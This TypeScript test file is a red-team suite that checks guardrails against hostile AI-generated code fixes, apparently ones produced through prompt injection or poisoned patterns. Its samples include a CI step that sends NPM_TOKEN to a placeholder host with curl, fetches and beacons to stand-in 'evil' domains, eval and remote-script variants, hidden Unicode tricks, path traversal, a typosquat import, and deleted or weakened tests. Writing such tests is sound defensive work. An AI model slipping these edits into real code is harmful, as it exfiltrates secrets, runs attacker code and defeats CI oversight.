import { describe, test } from 'vitest';
import type { Candidate, FixContext } from '../../src/fix/fix.types.ts';
import { checkCandidate, type GuardrailReason } from '../../src/fix/guardrails/guardrails.ts';
import {
  candidate,
  context,
  EDITABLE,
  edit,
  LIMITS,
  original,
  PATTERN,
  REPO,
} from './guardrails-fixture.ts';

/**
 * The red team (research ai-autofix.md §10 check 9 and the incidents of §8): hostile candidates,
 * as an injected model answer or a poisoned pattern would produce them, each rejected with the
 * expected reason. `PWNED` and `evil` mark attacker text, which must never come back in a
 * rejection's detail.
 */

const BG = 'src/background/messaging.js';
const STORAGE = 'src/lib/storage.js';
const TEST = 'test/messaging.test.js';
const HTML = 'src/popup/popup.html';
const TSX = 'src/popup/popup.tsx';

const badge = 'export function readBadge(tab) {\n';
const VUE = `<template>
  <p>{{ count }}</p>
</template>

<script>
export default { data: () => ({ count: 0 }) };
</script>
`;
/** Hostile code slipped in beside a plausible fix of the reported bug. */
function withFix(extra: string, path = BG): Candidate {
  return candidate([edit(path, badge, `${badge}  ${extra}\n  if (!tab.title) return '';\n`)]);
}

interface Case {
  name: string;
  expected: GuardrailReason;
  candidate: () => Candidate;
  context?: () => FixContext;
}

const cases: Case[] = [
  // --- §8 T3: edits outside the failing code -------------------------------------------------
  {
    name: 'manifest.json gains <all_urls> host permissions',
    expected: 'protected_path',
    candidate: () =>
      candidate([
        edit(
          'manifest.json',
          '"permissions": ["storage"],',
          '"permissions": ["storage", "scripting"],\n  "host_permissions": ["<all_urls>"],',
        ),
      ]),
  },
  {
    name: 'manifest.json loosens the CSP',
    expected: 'protected_path',
    candidate: () =>
      candidate([
        edit(
          'manifest.json',
          '"version": "1.4.0",',
          '"version": "1.4.0",\n  "content_security_policy": { "extension_pages": "script-src \'self\' \'unsafe-eval\'" },',
        ),
      ]),
  },
  {
    name: 'a GitHub Actions workflow that exfiltrates secrets (Clinejection)',
    expected: 'protected_path',
    candidate: () =>
      candidate([
        {
          path: '.github/workflows/ci.yml',
          before: '',
          after:
            'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "$NPM_TOKEN" PWNED\n',
        },
      ]),
  },
  {
    name: 'package.json gains a postinstall script',
    expected: 'protected_path',
    candidate: () =>
      candidate([
        {
          path: 'package.json',
          before: '',
          after: '{ "name": "notes", "scripts": { "postinstall": "node -e PWNED" } }\n',
        },
      ]),
  },
  {
    name: 'a lockfile pointed at another tarball',
    expected: 'protected_path',
    candidate: () =>
      candidate([
        {
          path: 'package-lock.json',
          before: '',
          after:
            '{ "lockfileVersion": 3, "packages": { "node_modules/react": { "resolved": "PWNED" } } }\n',
        },
      ]),
  },
  {
    name: 'a nested tsconfig and a vite config',
    expected: 'protected_path',
    candidate: () =>
      candidate([
        { path: 'src/tsconfig.app.json', before: '', after: '{ "compilerOptions": {} }\n' },
        { path: 'vite.config.ts', before: '', after: 'export default { plugins: [] };\n' },
      ]),
  },
  {
    name: 'a git hook (.husky/pre-commit)',
    expected: 'protected_path',
    candidate: () => candidate([{ path: '.husky/pre-commit', before: '', after: 'PWNED\n' }]),
  },
  {
    name: 'a per-browser manifest (manifest.firefox.json)',
    expected: 'protected_path',
    candidate: () =>
      candidate([
        { path: 'src/manifest.firefox.json', before: '', after: '{ "permissions": ["tabs"] }\n' },
      ]),
  },
  {
    name: 'a file outside editablePaths (read for context only)',
    expected: 'path_not_editable',
    candidate: () =>
      candidate([
        edit(
          'src/options/options.js',
          "root.textContent = 'Options';",
          "root.textContent = 'Options!';",
        ),
      ]),
  },
  {
    name: 'a new non-test file (a fresh content script)',
    expected: 'path_not_editable',
    candidate: () =>
      candidate([{ path: 'src/content/inject.js', before: '', after: 'document.title = "x";\n' }]),
  },
  {
    name: "a path with '..'",
    expected: 'path_invalid',
    candidate: () => candidate([{ path: 'src/../../etc/cron.d/PWNED', before: '', after: 'x\n' }]),
  },
  {
    name: 'an absolute path',
    expected: 'path_invalid',
    candidate: () => candidate([{ path: '/etc/passwd', before: '', after: 'PWNED\n' }]),
  },
  {
    name: 'a backslash path',
    expected: 'path_invalid',
    candidate: () =>
      candidate([{ path: 'src\\background\\messaging.js', before: '', after: 'x\n' }]),
  },
  {
    name: 'a trailing dot that Windows drops (manifest.json.)',
    expected: 'path_invalid',
    candidate: () => candidate([{ path: 'manifest.json.', before: '', after: '{}\n' }]),
  },
  {
    name: 'a NUL in the path',
    expected: 'path_invalid',
    candidate: () =>
      candidate([{ path: 'src/background/messaging.js\0.txt', before: '', after: 'x\n' }]),
  },
  {
    name: 'a path with a right-to-left override',
    expected: 'path_invalid',
    candidate: () => candidate([{ path: 'src/lib/\u202Esj.egarots', before: '', after: 'x\n' }]),
  },
  {
    name: "a path excluded by the repository's paths",
    expected: 'path_excluded',
    context: () => context({ editablePaths: [...EDITABLE, 'src/vendor/analytics.js'] }),
    candidate: () =>
      candidate([{ path: 'src/vendor/analytics.js', before: '', after: 'export const x = 1;\n' }]),
  },
  {
    name: 'a before that is not what the context read',
    expected: 'base_mismatch',
    candidate: () =>
      candidate([
        {
          path: BG,
          before: `${original(BG)}eval(globalThis.PWNED);\n`,
          after: `${original(BG)}eval(globalThis.PWNED);\n// tidy\n`,
        },
      ]),
  },
  // --- added URLs and domains --------------------------------------------------------------------
  {
    name: 'fetch to an attacker domain',
    expected: 'added_url',
    candidate: () =>
      withFix(
        "fetch('https://collect.evil-analytics.com/c?d=' + encodeURIComponent(JSON.stringify(tab)));",
      ),
  },
  {
    name: 'a protocol-relative beacon URL',
    expected: 'added_url',
    candidate: () => withFix("const beacon = '//stats.evil.net/p.gif';"),
  },
  {
    name: 'a WebSocket to an attacker host',
    expected: 'added_url',
    candidate: () => withFix("const ws = new WebSocket('wss://evil.example.io/socket');"),
  },
  {
    name: 'a bare domain in a string',
    expected: 'added_url',
    candidate: () => withFix("const host = 'collect.evil.xyz';"),
  },
  {
    name: 'a bare domain with an ambiguous TLD, quoted whole',
    expected: 'added_url',
    candidate: () => withFix("const host = 'evil-drop.top';"),
  },
  {
    name: 'a domain hidden in a template literal',
    expected: 'added_url',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the candidate's source holds a template literal
    candidate: () => withFix('const u = `${location.protocol}//evil.ru/${tab.id}`;'),
  },
  {
    name: 'a javascript: URL',
    expected: 'added_url',
    candidate: () => withFix("tab.url = 'javascript:alert(PWNED)';"),
  },
  {
    name: 'a data: URL carrying HTML',
    expected: 'added_url',
    candidate: () => withFix("tab.url = 'data:text/html,<h1>PWNED</h1>';"),
  },
  {
    name: 'a link in an added comment (for the PR to carry)',
    expected: 'added_url',
    candidate: () => withFix('// see https://evil.example.com/PWNED for details'),
  },
  {
    name: 'a URL split across concatenated literals (an image beacon)',
    expected: 'added_url',
    candidate: () =>
      withFix("new Image().src = 'https:' + '/' + '/' + 'evil' + '.com/?d=' + tab.title;"),
  },
  // --- code that runs strings or remote code ------------------------------------------------------
  {
    name: 'a remote <script> in the popup page',
    expected: 'dangerous_code',
    candidate: () =>
      candidate([
        edit(
          HTML,
          '    <div id="root"></div>\n',
          '    <div id="root"></div>\n    <script src="https://cdn.evil.example/x.js"></script>\n',
        ),
      ]),
  },
  {
    name: 'an inline event handler in the popup page',
    expected: 'dangerous_code',
    candidate: () =>
      candidate([edit(HTML, '<div id="root"></div>', '<div id="root" onclick="PWNED()"></div>')]),
  },
  {
    name: 'importScripts in the service worker',
    expected: 'dangerous_code',
    candidate: () => withFix("importScripts('vendor/PWNED.js');"),
  },
  {
    name: 'eval of message data',
    expected: 'dangerous_code',
    candidate: () => withFix('eval(tab.PWNED);'),
  },
  {
    name: 'indirect eval (0, eval)',
    expected: 'dangerous_code',
    candidate: () => withFix('(0, eval)(tab.PWNED);'),
  },
  {
    name: "window['eval']",
    expected: 'dangerous_code',
    candidate: () => withFix("window['eval'](tab.PWNED);"),
  },
  {
    name: 'globalThis.eval',
    expected: 'dangerous_code',
    candidate: () => withFix('globalThis.eval(tab.PWNED);'),
  },
  {
    name: "window['ev' + 'al'] (computed global member)",
    expected: 'dangerous_code',
    candidate: () => withFix("self['ev' + 'al'](tab.PWNED);"),
  },
  {
    name: 'new Function',
    expected: 'dangerous_code',
    candidate: () => withFix("new Function('return ' + tab.PWNED)();"),
  },
  {
    name: 'Function via a constructor property',
    expected: 'dangerous_code',
    candidate: () => withFix("(() => {}).constructor('return PWNED')();"),
  },
  {
    name: 'dynamic import of a URL',
    expected: 'dangerous_code',
    candidate: () => withFix("import('https://cdn.evil.example/payload.js');"),
  },
  {
    name: 'dynamic import of a computed specifier',
    expected: 'dangerous_code',
    candidate: () => withFix('import(tab.PWNED);'),
  },
  {
    name: 'tabs.executeScript with a code string (MV2)',
    expected: 'dangerous_code',
    candidate: () => withFix('chrome.tabs.executeScript(tab.id, { code: tab.PWNED });'),
  },
  {
    name: 'scripting.executeScript with details it cannot verify',
    expected: 'dangerous_code',
    candidate: () => withFix('chrome.scripting.executeScript(tab.PWNED);'),
  },
  {
    name: 'userScripts.execute',
    expected: 'dangerous_code',
    candidate: () =>
      withFix(
        "chrome.userScripts.execute({ target: { tabId: tab.id }, js: [{ code: 'PWNED' }] });",
      ),
  },
  {
    name: 'a worker started from a blob of fetched code',
    expected: 'dangerous_code',
    candidate: () => withFix('new Worker(URL.createObjectURL(new Blob([tab.PWNED])));'),
  },
  {
    name: 'v-html and eval in a Vue component (no parser: read by spelling)',
    expected: 'dangerous_code',
    context: () =>
      context({
        editablePaths: [...EDITABLE, 'src/popup/App.vue'],
        files: {
          ...context().files,
          'src/popup/App.vue': {
            path: 'src/popup/App.vue',
            content: VUE,
            blobSha: 'v',
            role: 'frame',
          },
        },
      }),
    candidate: () =>
      candidate([
        {
          path: 'src/popup/App.vue',
          before: VUE,
          after: VUE.replace('<p>{{ count }}</p>', '<p v-html="note.PWNED"></p>').replace(
            'count: 0',
            'count: eval(PWNED)',
          ),
        },
      ]),
  },
  {
    name: 'setTimeout with a string',
    expected: 'dangerous_code',
    candidate: () => withFix("setTimeout('PWNED()', 10);"),
  },
  {
    name: 'innerHTML from message data',
    expected: 'dangerous_code',
    candidate: () => withFix('document.body.innerHTML = tab.PWNED;'),
  },
  {
    name: 'document.write',
    expected: 'dangerous_code',
    candidate: () => withFix("document.write('<b>PWNED</b>');"),
  },
  {
    name: 'a script element built in code',
    expected: 'dangerous_code',
    candidate: () =>
      withFix(
        "const s = document.createElement('script'); s.src = tab.PWNED; document.head.append(s);",
      ),
  },
  {
    name: 'a URL built from character codes and sent with fetch',
    expected: 'dangerous_code',
    candidate: () =>
      withFix('fetch(String.fromCharCode(104, 116, 116, 112), { body: tab.PWNED });'),
  },
  {
    name: 'a test that reads CI secrets',
    expected: 'dangerous_code',
    candidate: () =>
      candidate([
        edit(
          TEST,
          "test('readBadge keeps",
          "test('env', () => { assert.ok(process.env.NPM_TOKEN); });\n\ntest('readBadge keeps",
        ),
      ]),
  },
  // --- hidden Unicode (T9) -------------------------------------------------------------------------
  {
    name: 'Trojan Source: a right-to-left override in a comment',
    expected: 'hidden_unicode',
    candidate: () =>
      withFix('/* \u202E } \u2066if (tab.isAdmin)\u2069 \u2066 begin admins only */'),
  },
  {
    name: 'Trojan Source: a bidi isolate in a string',
    expected: 'hidden_unicode',
    candidate: () =>
      withFix("if (tab.role === 'user\u2067 // check if admin\u2069') return 'admin';"),
  },
  {
    name: 'a zero-width joiner inside an identifier',
    expected: 'hidden_unicode',
    candidate: () => withFix('const is\u200DAdmin = true;'),
  },
  {
    name: 'Unicode tag characters smuggling text (ASCII smuggling)',
    expected: 'hidden_unicode',
    candidate: () =>
      withFix(
        `// ok${[...'PWNED'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
      ),
  },
  {
    name: 'a homoglyph identifier (Cyrillic e)',
    expected: 'hidden_unicode',
    candidate: () => withFix('const s\u0435ndResponse = (x) => x;'),
  },
  {
    name: 'variation selectors carrying an invisible payload (GlassWorm)',
    expected: 'hidden_unicode',
    candidate: () => withFix("const k = '\uFE01\uFE02\uFE03';"),
  },
  // --- tests (CI must judge, not be silenced) --------------------------------------------------------
  {
    name: 'the test file deleted',
    expected: 'deleted_test',
    candidate: () => candidate([{ path: TEST, before: original(TEST), after: '' }]),
  },
  {
    name: 'a test removed',
    expected: 'deleted_test',
    candidate: () =>
      candidate([
        edit(
          TEST,
          "test('readBadge keeps short titles', () => {\n  assert.equal(readBadge({ title: 'short' }), 'short');\n});\n",
          '',
        ),
      ]),
  },
  {
    name: 'an assertion removed',
    expected: 'deleted_test',
    candidate: () =>
      candidate([
        edit(
          TEST,
          "  assert.equal(readBadge({ title: 'short' }), 'short');\n",
          "  readBadge({ title: 'short' });\n",
        ),
      ]),
  },
  {
    name: 'a failing test skipped',
    expected: 'deleted_test',
    candidate: () => candidate([edit(TEST, "test('readBadge keeps", "test.skip('readBadge keeps")]),
  },
  {
    name: 'a test focused with .only',
    expected: 'deleted_test',
    candidate: () =>
      candidate([edit(TEST, "test('readBadge shortens", "test.only('readBadge shortens")]),
  },
  {
    name: 'an assertion weakened to one on constants',
    expected: 'deleted_test',
    candidate: () =>
      candidate([
        edit(
          TEST,
          "  assert.equal(readBadge({ title: 'short' }), 'short');\n",
          '  assert.ok(true);\n',
        ),
      ]),
  },
  {
    name: 'a test that skips itself at run time (t.skip())',
    expected: 'deleted_test',
    candidate: () =>
      candidate([
        edit(
          TEST,
          "test('readBadge keeps short titles', () => {\n",
          "test('readBadge keeps short titles', (t) => {\n  t.skip();\n",
        ),
      ]),
  },
  // --- personal data (T5) ----------------------------------------------------------------------------
  {
    name: 'an e-mail address in a comment',
    expected: 'pii',
    candidate: () => withFix('// reported by jane.doe@example.org'),
  },
  {
    name: 'a card number in a test fixture',
    expected: 'pii',
    candidate: () =>
      candidate([
        edit(
          TEST,
          "test('readBadge keeps",
          "test('card', () => {\n  assert.equal(readBadge({ title: '4111 1111 1111 1111' }).length, 19);\n});\n\ntest('readBadge keeps",
        ),
      ]),
  },
  {
    name: 'a GitHub token in a string',
    expected: 'pii',
    candidate: () => withFix("const auth = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';"),
  },
  // --- supply chain (T4) ------------------------------------------------------------------------------
  {
    name: 'a new npm package',
    expected: 'new_dependency',
    candidate: () =>
      candidate([
        edit(
          BG,
          "import { loadNotes } from '../lib/storage.js';\n",
          "import { loadNotes } from '../lib/storage.js';\nimport lodash from 'lodahs';\n",
        ),
      ]),
  },
  {
    name: 'child_process reached through process.mainModule.require',
    expected: 'new_dependency',
    candidate: () =>
      candidate([
        edit(
          TEST,
          "test('readBadge keeps",
          "test('x', () => {\n  process.mainModule.require('child_process').execSync('PWNED');\n  assert.ok(readBadge({ title: 'x' }));\n});\n\ntest('readBadge keeps",
        ),
      ]),
  },
  {
    name: 'child_process in a test (runs on CI)',
    expected: 'new_dependency',
    candidate: () =>
      candidate([
        edit(
          TEST,
          "import { test } from 'node:test';\n",
          "import { test } from 'node:test';\nimport { execSync } from 'node:child_process';\n",
        ),
      ]),
  },
  // --- size, syntax and shape (§10 check 3) ----------------------------------------------------------
  {
    name: 'a 600-line diff',
    expected: 'too_many_lines',
    candidate: () =>
      withFix(Array.from({ length: 600 }, (_, i) => `const filler${i} = ${i};`).join('\n  ')),
  },
  {
    name: 'eleven files',
    expected: 'too_many_files',
    context: () =>
      context({
        editablePaths: [
          ...EDITABLE,
          ...Array.from({ length: 11 }, (_, i) => `src/lib/util${i}.js`),
        ],
      }),
    candidate: () =>
      candidate(
        Array.from({ length: 11 }, (_, i) => ({
          path: `src/lib/util${i}.test.js`,
          before: '',
          after: `export const n${i} = ${i};\n`,
        })),
      ),
  },
  {
    name: 'a file that does not parse',
    expected: 'parse_error',
    candidate: () =>
      candidate([edit(BG, 'return tab.title.length > 20', 'return tab.title?.length > 20 ?')]),
  },
  {
    name: 'a TSX file that does not parse',
    expected: 'parse_error',
    candidate: () =>
      candidate([
        edit(
          TSX,
          '<span className="count">{count}</span>',
          '<span className="count">{count}</span',
        ),
      ]),
  },
  {
    name: 'a whitespace-only change',
    expected: 'whitespace_only',
    candidate: () =>
      candidate([
        edit(
          STORAGE,
          '  return JSON.parse(stored[key]);\n',
          '    return JSON.parse(stored[key]);  \n\n',
        ),
      ]),
  },
  {
    name: 'an empty candidate',
    expected: 'no_change',
    candidate: () => candidate([], PATTERN),
  },
  {
    name: 'a change whose after equals its before',
    expected: 'no_change',
    candidate: () => candidate([{ path: BG, before: original(BG), after: original(BG) }]),
  },
  {
    name: 'binary content',
    expected: 'binary_content',
    candidate: () => withFix('const blob = "\0\u0001\u0002PWNED\u0000";'),
  },
  {
    name: 'a 2 MB file',
    expected: 'file_too_large',
    candidate: () =>
      candidate([
        { path: BG, before: original(BG), after: `${original(BG)}// ${'x'.repeat(2_000_000)}\n` },
      ]),
  },
  {
    name: 'the service worker emptied (a wiper)',
    expected: 'file_deleted',
    candidate: () => candidate([{ path: BG, before: original(BG), after: '' }]),
  },
  {
    name: 'the same file changed twice',
    expected: 'path_invalid',
    candidate: () =>
      candidate([
        edit(BG, 'return tab.title.length', 'return tab.title?.length'),
        edit(BG, 'return tab.title.length', 'return (tab.title ?? "").length'),
      ]),
  },
];

/** Attacker text that must never come back in a detail. */
const MARKERS = ['PWNED', 'evil', 'lodahs', 'jane.doe', '4111', 'ghp_', '\u202E', '\u200D'];

describe('guardrails: red team', () => {
  test(`has at least 30 hostile candidates (${cases.length})`, ({ expect }) => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });

  for (const c of cases) {
    test(`rejects ${c.name} as ${c.expected}`, ({ expect }) => {
      const verdict = checkCandidate(c.candidate(), (c.context ?? context)(), REPO, LIMITS);
      expect(verdict.ok).toBe(false);
      if (verdict.ok) return;
      expect(verdict.rejections.map((r) => r.reason)).toContain(c.expected);
      for (const r of verdict.rejections) {
        for (const m of MARKERS) expect(r.detail ?? '').not.toContain(m);
        expect(typeof r.detail).toBe('string');
      }
    });
  }

  test('reports every rejection, not only the first', ({ expect }) => {
    const verdict = checkCandidate(
      candidate([
        edit('manifest.json', '"permissions": ["storage"]', '"permissions": ["storage", "tabs"]'),
        edit(BG, badge, `${badge}  eval(tab.x); fetch('https://evil.example.com');\n`),
      ]),
      context(),
      REPO,
      LIMITS,
    );
    expect(verdict.ok).toBe(false);
    if (verdict.ok) return;
    const reasons = new Set(verdict.rejections.map((r) => r.reason));
    expect([...reasons].sort()).toEqual(
      ['added_url', 'dangerous_code', 'path_not_editable', 'protected_path'].sort(),
    );
    const dangerous = verdict.rejections.filter((r) => r.reason === 'dangerous_code');
    // eval and the new fetch are two separate findings, both on the added line.
    const line = original(BG).split('\n').indexOf(badge.trim()) + 2;
    expect(dangerous).toHaveLength(2);
    for (const r of dangerous) expect(r).toMatchObject({ path: BG, line });
  });

  test('an invalid path is never echoed back', ({ expect }) => {
    const path = '../\u202Egnp.PWNED';
    const verdict = checkCandidate(
      candidate([{ path, before: '', after: 'x\n' }]),
      context(),
      REPO,
      LIMITS,
    );
    expect(verdict).toEqual({
      ok: false,
      rejections: [{ reason: 'path_invalid', detail: 'change 1: invisible character in path' }],
      stats: { files: 0, added: 0, removed: 0 },
    });
  });

  // workerd's clock stands still during synchronous work, so the test's timeout is the bound.
  test('hostile input cannot make the checks slow (near-domains and unclosed tags)', {
    timeout: 5_000,
  }, ({ expect }) => {
    const hostile = `const s = '${'a.'.repeat(200_000)}';\n// ${'<a on'.repeat(50_000)}\n`;
    const verdict = checkCandidate(
      candidate([{ path: BG, before: original(BG), after: original(BG) + hostile }]),
      context(),
      REPO,
      { maxDiffLines: 500, maxFiles: 10 },
    );
    expect(verdict.ok).toBe(true);
  });
});
